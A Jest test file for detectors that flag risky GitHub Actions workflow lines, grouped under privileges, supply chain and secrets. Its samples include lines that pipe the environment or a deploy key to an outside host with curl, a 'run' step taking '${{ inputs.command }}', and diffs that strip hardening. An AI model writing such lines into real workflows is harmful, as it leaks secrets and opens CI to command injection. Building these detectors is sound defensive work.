// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the lines are code as people write it.
import { expect, test } from '@jest/globals';
import { found, type SignalExample, withoutExample } from '../../../../test/samples/signal-lines.ts';
import { workflowDetectors } from './workflows.ts';

const each = (...lines: string[]): readonly SignalExample[] =>
  lines.map((line) => ['.github/workflows/ci.yml', line]);
const pinned = 'acme/setup@11bd71901bbe5b1630ceea73d27597364c9af683';

const sure: Readonly<Record<string, readonly SignalExample[]>> = {
  privileges: [
    ...each(
      'on: pull_request_target',
      "'on': pull_request_target",
      'on: [push, pull_request_target]',
      '  pull_request_target:',
      '  - pull_request_target',
      'on: workflow_run',
      '  workflow_run:',
      'on: issue_comment',
      'permissions: write-all',
      '  contents: write',
      '      id-token: write',
      '  packages: "write"',
      '          ref: ${{ github.event.pull_request.head.sha }}',
      '      ACTIONS_ALLOW_UNSECURE_COMMANDS: true',
      '    runs-on: [self-hosted, linux]',
      '          persist-credentials: true',
      '      - run: echo "${{ github.event.pull_request.title }}"',
      '        run: git checkout ${{ github.head_ref }}',
      '      - run: ./deploy ${{ inputs.target }}',
    ),
    ['action.yml', '    - run: ${{ inputs.command }}'],
    ['.github/workflows/ci.yml', '-permissions:', '-  contents: read'],
    ['.github/workflows/ci.yml', '-          persist-credentials: false'],
    [
      '.github/workflows/ci.yml',
      '-    if: github.event.pull_request.head.repo.full_name == github.repository',
    ],
    ['.github/workflows/ci.yml', '-      - uses: step-security/harden-runner@v2'],
  ],
  'supply-chain': [
    ['.github/workflows/ci.yml', `-      - uses: ${pinned}`, '+      - uses: acme/setup@v2'],
    [
      '.github/workflows/ci.yml',
      '-      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683',
      '+      - uses: someone/checkout@v4',
    ],
    [
      '.github/workflows/ci.yml',
      '-      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683',
      '+      - uses: actions/checkout@main',
    ],
    ['.github/workflows/ci.yml', '      - uses: someone/setup@main'],
  ],
  secrets: each(
    '    secrets: inherit',
    '      - run: curl -d "${{ secrets.DEPLOY_KEY }}" https://acme.dev',
    '      - run: echo ${{ secrets.DEPLOY_KEY }} | base64',
    '      - run: env | curl -d @- https://acme.dev',
    '          ALL: ${{ toJSON(secrets) }}',
  ),
};

const hints: Readonly<Record<string, readonly SignalExample[]>> = {
  secrets: each('          KEY: ${{ secrets.DEPLOY_KEY }}'),
  'supply-chain': [
    ...each('      - uses: someone/setup@v2'),
    ['.github/workflows/ci.yml', '-      - uses: github/codeql-action/analyze@v3'],
  ],
};

const cases = (grade: string, examples: Readonly<Record<string, readonly SignalExample[]>>) =>
  Object.entries(examples).flatMap(([signal, all]) =>
    all.map((example) => [`${signal} ${grade}`, example] as const),
  );

test.each([...cases('sure', sure), ...cases('hint', hints)])('%s: %j', (expected, example) => {
  expect(found(workflowDetectors, example)).toContain(expected);
});

test('no detector is without an example', () => {
  const all = [...Object.values(sure), ...Object.values(hints)].flat();
  expect(withoutExample(workflowDetectors, all)).toEqual([]);
});

test.each<SignalExample>([
  ...each(
    'on: pull_request',
    'on: [push, pull_request]',
    '  contents: read',
    '          KEY: ${{ secrets.GITHUB_TOKEN }}',
    '      - run: echo ${{ github.sha }}',
    '    runs-on: ubuntu-latest',
    '      - uses: actions/checkout@v4',
    '      - uses: ./.github/actions/setup',
    `      - uses: ${pinned}`,
  ),
  ['.github/workflows/ci.yml', '-      - uses: someone/setup@v2', '+      - uses: someone/setup@v3'],
  ['src/settings.yml', '  contents: write'],
])('nothing: %j', (...example) => {
  expect(found(workflowDetectors, example)).toEqual([]);
});
